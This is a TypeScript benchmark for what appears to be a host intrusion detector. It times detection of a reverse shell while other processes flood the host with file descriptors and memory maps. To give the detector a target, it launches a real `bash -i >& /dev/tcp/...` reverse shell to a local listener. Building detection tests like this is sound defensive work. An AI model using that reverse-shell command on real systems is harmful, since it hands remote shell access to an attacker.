// A scan flooded by what one process fans out into, timed: live `detect` on a host running a real reverse
// shell, first alone, then beside processes holding thousands of fds each (python3 opening /dev/null again
// and again: anyone can, up to their `ulimit -Hn`), then beside processes holding thousands of memory maps.
// collection.fanout bounds what a scan reads of them (src/collect/fanout.ts): the flooded run's cost is
// reported against the run without, and the reverse shell must still be reported critical.
// FANOUT_BENCH_PROCESSES (default 10) and FANOUT_BENCH_FDS (default 19,000, kept under this process's
// `ulimit -n`) size the fd flood; FANOUT_BENCH_MAPS (default 60,000) the maps held by each of as many
// processes. test/commands/fanout.test.ts asserts the outcome in `npm test`, with lowered limits.
import {type ChildProcess, spawn, spawnSync} from 'node:child_process';
import {mkdtempSync, readdirSync, readFileSync, rmSync} from 'node:fs';
import {createServer, type Socket} from 'node:net';
import {tmpdir} from 'node:os';
import {join} from 'node:path';

import {BIN, privateEnv, report, timeCommand} from './lib.js';

const HOLD = `import os, sys, mmap, time
kind, n = sys.argv[1], int(sys.argv[2])
held = [os.open('/dev/null', os.O_RDONLY) for _ in range(n)] if kind == 'fds' else [mmap.mmap(-1, 4096, prot=0) for _ in range(n)]
time.sleep(3600)
`;

const count = (name: string, fallback: number): number => {
  const value = Number(process.env[name]);
  return Number.isInteger(value) && value > 0 ? value : fallback;
};

/** This process's soft `ulimit -n` (what a child inherits), read from /proc/self/limits. */
function openFileLimit(): number {
  const line = readFileSync('/proc/self/limits', 'utf8')
    .split('\n')
    .find((l) => l.startsWith('Max open files'));
  const soft = Number(line?.split(/\s+/)[3]);
  return Number.isFinite(soft) ? soft : 1024;
}

/** One detect run's outcome: the reverse shell's severity, the rules left unrun, and the stderr's collection limits. */
function outcome(env: NodeJS.ProcessEnv, pid: number): string {
  const result = spawnSync(process.execPath, [BIN, 'detect', '--format', 'json', '--no-audit'], {env, encoding: 'utf8', maxBuffer: 256 * 1024 * 1024});
  const output = JSON.parse(result.stdout) as {
    alerts: {rule_id: string; severity: string; affected_processes: number[]}[];
    summary: {rules_run: number; timed_out: string[]; not_run: string[]; collection_limits: {source: string; read: number; total: number | null}[]};
  };
  const alert = output.alerts.find((a) => a.rule_id === 'reverse-shell-command-line' && a.affected_processes.includes(pid));
  const {summary} = output;
  const bySource = (source: string): string => {
    const cuts = summary.collection_limits.filter((c) => c.source === source);
    return cuts.length === 0 ? 'none' : `${cuts.length} processes, ${cuts.reduce((n, c) => n + c.read, 0).toLocaleString('en-US')} read`;
  };
  return `exit ${String(result.status)}; reverse shell ${alert === undefined ? 'NOT REPORTED' : alert.severity}; ${summary.rules_run} rules; timed out: ${summary.timed_out.join(', ') || 'none'}; not run: ${summary.not_run.join(', ') || 'none'}; cut: fds ${bySource('fd')}, maps ${bySource('maps')}`;
}

async function settle(pids: readonly number[], enough: (pid: number) => boolean): Promise<void> {
  for (let i = 0; i < 600 && !pids.every(enough); i++) await new Promise((resolve) => setTimeout(resolve, 100));
}

export async function run(): Promise<void> {
  const dir = mkdtempSync(join(tmpdir(), 'daemoneye-bench-fanout-'));
  const env = privateEnv(dir);
  const children: ChildProcess[] = [];
  const sockets: Socket[] = [];
  const server = createServer((socket) => sockets.push(socket));
  const start = (command: string, args: readonly string[]): number => {
    const child = spawn(command, args, {detached: true, stdio: 'ignore', env: {PATH: process.env.PATH ?? '/usr/bin:/bin'}});
    children.push(child);
    return child.pid ?? 0;
  };
  const stopAll = (from: number): void => {
    for (const child of children.splice(from)) {
      try {
        if (child.pid !== undefined) process.kill(-child.pid, 'SIGKILL');
      } catch {
        // already gone
      }
    }
  };
  try {
    const port = await new Promise<number>((resolve) => server.listen(0, '127.0.0.1', () => resolve((server.address() as {port: number}).port)));
    const shell = start('/bin/bash', ['-c', `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1; true`]);
    await new Promise((resolve) => setTimeout(resolve, 1000));
    const args = [BIN, 'detect', '--format', 'json', '--quiet', '--no-audit'];
    const options = {runs: 3, env, exitCodes: [0, 1, 3]};
    const processes = count('FANOUT_BENCH_PROCESSES', 10);
    const fds = Math.min(count('FANOUT_BENCH_FDS', 19_000), openFileLimit() - 64);
    const maps = count('FANOUT_BENCH_MAPS', 60_000);

    const alone = timeCommand('detect, reverse shell alone', process.execPath, args, options);
    const aloneOutcome = outcome(env, shell);

    const fdFlood = Array.from({length: processes}, () => start('python3', ['-c', HOLD, 'fds', String(fds)]));
    await settle(fdFlood, (pid) => readdirSync(`/proc/${pid}/fd`).length >= fds);
    const fdRun = timeCommand(`detect, beside ${processes} × ${fds.toLocaleString('en-US')} fds`, process.execPath, args, options);
    const fdOutcome = outcome(env, shell);
    stopAll(1);

    const mapFlood = Array.from({length: processes}, () => start('python3', ['-c', HOLD, 'maps', String(maps)]));
    await settle(mapFlood, (pid) => readFileSync(`/proc/${pid}/maps`, 'latin1').split('\n').length > maps);
    const mapRun = timeCommand(`detect, beside ${processes} × ${maps.toLocaleString('en-US')} maps`, process.execPath, args, options);
    const mapOutcome = outcome(env, shell);

    report('live detect with a reverse shell, alone and beside processes fanning out into fds or memory maps', [alone, fdRun, mapRun], alone);
    process.stdout.write(`alone: ${aloneOutcome}\nbeside the fds: ${fdOutcome}\nbeside the maps: ${mapOutcome}\n`);
  } finally {
    for (const socket of sockets) socket.destroy();
    server.close();
    stopAll(0);
    rmSync(dir, {recursive: true, force: true});
  }
}
